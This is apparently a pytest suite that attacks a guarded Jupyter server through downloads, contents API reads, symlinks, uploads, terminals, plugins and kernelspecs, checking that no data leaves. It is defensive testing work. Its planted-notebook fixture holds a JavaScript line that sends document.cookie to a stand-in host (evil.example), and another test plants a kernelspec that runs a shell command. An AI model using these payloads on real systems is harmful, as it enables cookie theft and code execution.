"""Each way a file could leave the operator's server, attempted against a real server with the guard.

Every test makes the request a browser or a script holding the operator's token would make and
asserts both the refusal and that none of the file's bytes came back.
"""

from __future__ import annotations

import asyncio
import base64
import importlib.util
import json
import re
import sys
from pathlib import Path

import pytest
from tornado.httpclient import HTTPRequest
from tornado.websocket import websocket_connect

# The server helpers live in this folder's conftest.py.
_spec = importlib.util.spec_from_file_location("guard_conftest", Path(__file__).with_name("conftest.py"))
_conftest = importlib.util.module_from_spec(_spec)
sys.modules["guard_conftest"] = _conftest
_spec.loader.exec_module(_conftest)
start_server = _conftest.start_server
stop_server = _conftest.stop_server

SECRET = "id,name,income\n1,Ada Lovelace,91234\n2,Alan Turing,88765\n"
MARK = "Ada Lovelace"


def put_file(server, name: str, text: str):
    path = server.home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def no_secret(response):
    assert MARK not in response.text
    assert base64.b64encode(SECRET.encode()).decode()[:24] not in response.text


# -- /files/, /view/, nbconvert ----------------------------------------------------------------


def test_files_download_is_refused(guard_server):
    put_file(guard_server, "results.csv", SECRET)
    put_file(guard_server, "notes.md", SECRET)
    for url in ("files/results.csv?download=1", "files/results.csv", "files/notes.md?download=1"):
        r = guard_server.request("GET", url)
        assert r.status_code == 403, url
        assert "attachment" not in r.headers.get("Content-Disposition", "")
        no_secret(r)


def test_view_and_nbconvert_are_refused(guard_server):
    nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": MARK}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    put_file(guard_server, "report.ipynb", json.dumps(nb))
    for method, url in (("GET", "nbconvert/html/report.ipynb"), ("GET", "nbconvert/script/report.ipynb?download=true"),
                        ("POST", "nbconvert/html"), ("GET", "view/report.ipynb"), ("GET", "api/nbconvert")):
        r = guard_server.request(method, url, data=json.dumps({"content": nb}) if method == "POST" else None)
        assert r.status_code == 403, url
        no_secret(r)


# -- contents API reads ------------------------------------------------------------------------


def test_contents_base64_is_refused(guard_server):
    put_file(guard_server, "results.csv", SECRET)
    put_file(guard_server, "script.py", f"# {SECRET}")
    for url in ("api/contents/results.csv?format=base64&type=file", "api/contents/script.py?format=base64&type=file",
                "api/contents/results.csv", "api/contents/results.csv?type=file&format=text",
                "api/contents/results.csv?type=notebook"):
        r = guard_server.request("GET", url)
        assert r.status_code == 403, url
        no_secret(r)
    # Code stays readable as text: the editor works.
    r = guard_server.request("GET", "api/contents/script.py")
    assert r.status_code == 200 and r.json()["format"] == "text"


def test_symlink_out_of_the_home_is_not_followed(guard_server):
    target = guard_server.outside / "people.csv"
    target.write_text(SECRET)
    for name, to in (("link.csv", target), ("link.txt", target), ("linkdir", guard_server.outside)):
        link = guard_server.home / name
        link.unlink(missing_ok=True)
        link.symlink_to(to)
    for url in ("api/contents/link.txt", "api/contents/link.csv", "api/contents/link.txt?format=base64&type=file",
                "api/contents/linkdir", "api/contents/linkdir/people.csv", "files/link.txt"):
        r = guard_server.request("GET", url)
        assert r.status_code in (403, 404), url
        no_secret(r)
    listing = guard_server.request("GET", "api/contents").json()
    names = {item["name"] for item in listing["content"]}
    assert not {"link.txt", "link.csv", "linkdir"} & names
    # Nor can the browser write through such a link, copy it or checkpoint it.
    r = guard_server.request("PUT", "api/contents/linkdir/x.py", json={"type": "file", "format": "text", "content": "1"})
    assert r.status_code in (403, 404)
    assert not (guard_server.outside / "x.py").exists()
    r = guard_server.request("POST", "api/contents", json={"copy_from": "link.txt"})
    assert r.status_code in (403, 404)
    r = guard_server.request("POST", "api/contents/link.txt/checkpoints")
    assert r.status_code in (403, 404)


def test_hidden_files_stay_hidden(guard_server):
    put_file(guard_server, ".env", f"SECRET={MARK}\n")
    put_file(guard_server, ".config/notes.txt", SECRET)
    for url in ("api/contents/.env", "api/contents/.config/notes.txt", "api/contents/.config"):
        r = guard_server.request("GET", url)
        assert r.status_code in (403, 404), url
        no_secret(r)
    names = {i["name"] for i in guard_server.request("GET", "api/contents").json()["content"]}
    assert ".env" not in names


def test_text_over_the_read_cap_is_refused(guard_server):
    put_file(guard_server, "big.txt", MARK + "x" * (1024 * 1024 + 10))
    r = guard_server.request("GET", "api/contents/big.txt")
    assert r.status_code == 403
    no_secret(r)


def test_notebook_written_by_a_kernel_is_trimmed_when_read(guard_server):
    """A kernel can write any notebook file; the contents API still returns only budgeted outputs."""
    huge = "A" * (600 * 1024)
    nb = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x", "outputs": [
        {"output_type": "stream", "name": "stdout", "text": huge},
        {"output_type": "display_data", "metadata": {}, "data": {
            "application/javascript": "fetch('https://evil.example/?d=' + document.cookie)",
            "application/pdf": base64.b64encode(SECRET.encode()).decode(),
            "text/html": f'<a download="x.csv" href="data:text/csv;base64,{base64.b64encode(SECRET.encode()).decode()}">{MARK}</a>',
        }},
    ]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    put_file(guard_server, "planted.ipynb", json.dumps(nb))
    r = guard_server.request("GET", "api/contents/planted.ipynb")
    assert r.status_code == 200
    assert len(r.content) < 300 * 1024
    body = r.text
    for forbidden in ("application/javascript", "application/pdf", "data:text/csv", "download=", "evil.example"):
        assert forbidden not in body
    assert "output withheld" in body


# -- uploads and writes ------------------------------------------------------------------------


def upload(server, name: str, data: bytes, **extra):
    return server.request("PUT", f"api/contents/{name}", json={
        "type": "file", "format": "base64", "content": base64.b64encode(data).decode(), **extra})


def test_csv_upload_is_refused(guard_server):
    r = upload(guard_server, "incoming.csv", SECRET.encode())
    assert r.status_code == 403
    assert "cannot be uploaded" in r.json()["message"]
    assert not (guard_server.home / "incoming.csv").exists()
    r = guard_server.request("PUT", "api/contents/incoming2.csv", json={"type": "file", "format": "text", "content": SECRET})
    assert r.status_code == 403
    assert not (guard_server.home / "incoming2.csv").exists()


def test_upload_policy_is_published_for_the_file_browser(guard_server):
    r = guard_server.request("GET", "enclave/api/uploads")
    assert r.status_code == 200
    body = r.json()
    assert ".ipynb" in body["suffixes"] and ".py" in body["suffixes"] and ".csv" not in body["suffixes"]
    assert body["max_bytes"] == 512 * 1024


def test_chunked_and_oversized_uploads_are_refused(guard_server):
    r = upload(guard_server, "big.py", b"# x\n", chunk=1)
    assert r.status_code == 403
    assert not (guard_server.home / "big.py").exists()
    r = upload(guard_server, "big2.py", b"#" * (600 * 1024))
    assert r.status_code == 413
    assert not (guard_server.home / "big2.py").exists()
    r = upload(guard_server, "binary.py", b"\x89PNG\r\n\x1a\n\x00\x00")
    assert r.status_code == 403


def test_code_upload_and_notebook_save_still_work(guard_server):
    r = upload(guard_server, "helpers.py", b"def f():\n    return 1\n")
    assert r.status_code in (200, 201)
    assert (guard_server.home / "helpers.py").read_text() == "def f():\n    return 1\n"
    nb = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "print(1)",
                     "outputs": [{"output_type": "stream", "name": "stdout", "text": "1\n"}]}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    r = guard_server.request("PUT", "api/contents/analysis.ipynb", json={"type": "notebook", "format": "json", "content": nb})
    assert r.status_code in (200, 201)
    back = guard_server.request("GET", "api/contents/analysis.ipynb").json()
    assert back["content"]["cells"][0]["outputs"][0]["text"] == "1\n"


def test_saved_notebook_is_trimmed_to_the_budget(guard_server):
    nb = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x", "outputs": [
        {"output_type": "stream", "name": "stdout", "text": "Q" * (200 * 1024)},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)", "text/plain": "ok"}},
    ]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    r = guard_server.request("PUT", "api/contents/saved.ipynb", json={"type": "notebook", "format": "json", "content": nb})
    assert r.status_code in (200, 201)
    on_disk = (guard_server.home / "saved.ipynb").read_text()
    assert "application/javascript" not in on_disk
    assert on_disk.count("Q") <= 64 * 1024
    assert "output withheld" in on_disk


def test_renaming_data_to_text_is_refused(guard_server):
    put_file(guard_server, "table.csv", SECRET)
    r = guard_server.request("PATCH", "api/contents/table.csv", json={"path": "table.txt"})
    assert r.status_code == 403
    assert (guard_server.home / "table.csv").exists() and not (guard_server.home / "table.txt").exists()


# -- terminals, events, extension and plugin managers, kernelspecs -------------------------------


def test_terminals_are_refused(guard_server):
    for method, url in (("GET", "api/terminals"), ("POST", "api/terminals"), ("GET", "terminals/websocket/1")):
        r = guard_server.request(method, url)
        assert r.status_code == 403, url


async def test_an_allowed_terminal_never_runs_a_shell_in_the_server(tmp_path):
    """Terminals on, with the guarded manager but no sandbox supervisor to ask: the terminal says
    it could not be opened and ends; the server does not fall back to a shell of its own."""
    server = start_server(tmp_path, {"terminals": True}, [
        "--ServerApp.terminals_enabled=True", "--ServerApp.jpserver_extensions", "jupyter_server_terminals=True",
        # A shell command the guard must ignore.
        "--ServerApp.terminado_settings=shell_command=['/bin/sh']"])
    try:
        r = server.request("POST", "api/terminals")
        assert r.status_code == 200, r.text
        url = server.url.replace("http://", "ws://") + f"/terminals/websocket/{r.json()['name']}"
        conn = await websocket_connect(HTTPRequest(url, headers={"Authorization": f"token {server.token}"}))
        received = []
        while (msg := await asyncio.wait_for(conn.read_message(), 30)) is not None:
            kind, *rest = json.loads(msg)
            received.append(rest[0] if kind == "stdout" else "")
            if kind == "disconnect":
                break
        assert "enclave: this terminal could not be opened" in "".join(received)
        conn.close()
    finally:
        stop_server(server)


def test_client_events_are_refused(guard_server):
    r = guard_server.request("POST", "api/events", json={
        "schema_id": "https://events.jupyter.org/jupyter_server/contents_service/v1", "version": "1",
        "data": {"action": "get", "path": "forged"}, "timestamp": "2020-01-01T00:00:00Z"})
    assert r.status_code == 403


def test_extension_manager_is_closed(guard_server):
    r = guard_server.request("POST", "lab/api/extensions", json={"cmd": "install", "extension_name": "jupyter-archive"})
    assert r.status_code == 403


def _page_config(server) -> dict:
    html = server.request("GET", "lab").text
    m = re.search(r'<script id="jupyter-config-data" type="application/json">(.*?)</script>', html, re.S)
    return json.loads(m.group(1))


def test_user_labconfig_cannot_reenable_plugins(guard_server):
    want = ["@jupyterlab/docmanager-extension:download", "@jupyterlab/filebrowser-extension:download",
            "@jupyterlab/filebrowser-extension:open-browser-tab", "@jupyterlab/notebook-extension:export"]
    labconfig = guard_server.home / ".jupyter" / "labconfig"
    labconfig.mkdir(parents=True, exist_ok=True)
    (labconfig / "page_config.json").write_text(json.dumps({
        "disabledExtensions": {p: False for p in want}, "lockedExtensions": {p: False for p in want}}))
    config = _page_config(guard_server)
    for plugin in want:
        assert plugin in config["disabledExtensions"]
        assert plugin in config["lockedExtensions"]
    # The plugin manager refuses to change anything.
    r = guard_server.request("POST", "lab/api/plugins", json={"cmd": "enable", "plugin_name": want[0]})
    assert r.status_code == 403


def test_lab_settings_written_in_the_home_are_not_served(guard_server):
    """JupyterLab returns a settings file's raw text: kernel code must not be able to write one."""
    d = guard_server.home / ".jupyter" / "lab" / "user-settings" / "@jupyterlab" / "apputils-extension"
    d.mkdir(parents=True, exist_ok=True)
    (d / "themes.jupyterlab-settings").write_text('{\n // ' + MARK + '\n "theme": "JupyterLab Dark"}')
    r = guard_server.request("GET", "lab/api/settings/@jupyterlab/apputils-extension:themes")
    assert r.status_code == 200
    no_secret(r)
    # Settings the browser saves still work (in the server's runtime directory).
    r = guard_server.request("PUT", "lab/api/settings/@jupyterlab/apputils-extension:themes",
                             json={"raw": '{"theme": "JupyterLab Dark"}'})
    assert r.status_code == 204
    assert "Dark" in guard_server.request("GET", "lab/api/settings/@jupyterlab/apputils-extension:themes").json()["raw"]


def test_lab_page_has_the_guard_csp(guard_server):
    r = guard_server.request("GET", "lab")
    csp = r.headers["Content-Security-Policy"]
    for directive in ("connect-src 'self'", "form-action 'self'", "object-src 'none'", "base-uri 'self'"):
        assert directive in csp


def test_kernelspec_in_the_home_is_not_used(guard_server):
    marker = guard_server.outside / "kernelspec-ran"
    spec = guard_server.home / ".local" / "share" / "jupyter" / "kernels" / "mine"
    spec.mkdir(parents=True, exist_ok=True)
    (spec / "kernel.json").write_text(json.dumps({
        "argv": ["/bin/sh", "-c", f"touch {marker}; sleep 30"], "display_name": "mine", "language": "sh"}))
    specs = guard_server.request("GET", "api/kernelspecs").json()["kernelspecs"]
    assert "mine" not in specs
    r = guard_server.request("POST", "api/kernels", json={"name": "mine"})
    assert r.status_code >= 400
    assert not marker.exists()
    # Nor are the files of its folder served.
    (spec / "secret.csv").write_text(SECRET)
    r = guard_server.request("GET", "kernelspecs/mine/secret.csv")
    assert r.status_code in (403, 404)
    no_secret(r)
    assert guard_server.request("GET", "kernelspecs/python3/kernel.json").status_code == 200


# -- export requests (the way out) --------------------------------------------------------------


def test_export_request_needs_a_justification_and_a_file_in_the_home(guard_server):
    put_file(guard_server, "table.csv", SECRET)
    r = guard_server.request("POST", "enclave/api/exports", json={"paths": ["table.csv"], "justification": "  "})
    assert r.status_code == 400 and "justification" in r.json()["message"]
    (guard_server.outside / "people.csv").write_text(SECRET)
    (guard_server.home / "escape.csv").unlink(missing_ok=True)
    (guard_server.home / "escape.csv").symlink_to(guard_server.outside / "people.csv")
    r = guard_server.request("POST", "enclave/api/exports", json={"paths": ["escape.csv"], "justification": "why"})
    assert r.status_code == 404
    put_file(guard_server, ".secret.csv", SECRET)
    r = guard_server.request("POST", "enclave/api/exports", json={"paths": [".secret.csv"], "justification": "why"})
    assert r.status_code == 403
    no_secret(r)


def test_export_request_without_the_review_service_fails_clearly(guard_server):
    put_file(guard_server, "table.csv", SECRET)
    r = guard_server.request("POST", "enclave/api/exports", json={"paths": ["table.csv"], "justification": "why"})
    assert r.status_code == 502
    assert "export review service" in r.json()["message"]
    no_secret(r)


# -- a half-installed guard does not serve --------------------------------------------------------


@pytest.mark.parametrize("guard, args, reason", [
    ({}, ["--ContentsManager.files_handler_class=jupyter_server.base.handlers.AuthenticatedFileHandler"],
     "files_handler_class is set"),
    ({}, ["--ServerApp.kernel_websocket_connection_class="
          "jupyter_server.services.kernels.connection.channels.ZMQChannelsWebsocketConnection"],
     "kernel_websocket_connection_class is not the guarded connection"),
    ({}, ["--ServerApp.jpserver_extensions", "jupyter_server_terminals=True"], "outside the allow-list"),
    ({}, ["--ServerApp.terminals_enabled=True"], "terminals are enabled but the workspace does not allow them"),
    ({"terminals": True}, [], "the workspace allows terminals but ServerApp.terminals_enabled is off"),
    # A terminal manager that would run a shell inside the server itself.
    ({"terminals": True}, ["--ServerApp.terminals_enabled=True", "--ServerApp.jpserver_extensions",
                           "jupyter_server_terminals=True",
                           "--TerminalsExtensionApp.terminal_manager_class="
                           "jupyter_server_terminals.terminalmanager.TerminalManager"],
     "terminal_manager_class is not the guarded one"),
    ({"terminal": True}, [], "unknown guard setting(s): terminal"),
])
def test_server_refuses_to_start_without_the_guard_in_force(tmp_path, guard, args, reason):
    with pytest.raises(RuntimeError, match="exited") as exc:
        start_server(tmp_path, guard, args)
    assert reason in str(exc.value)
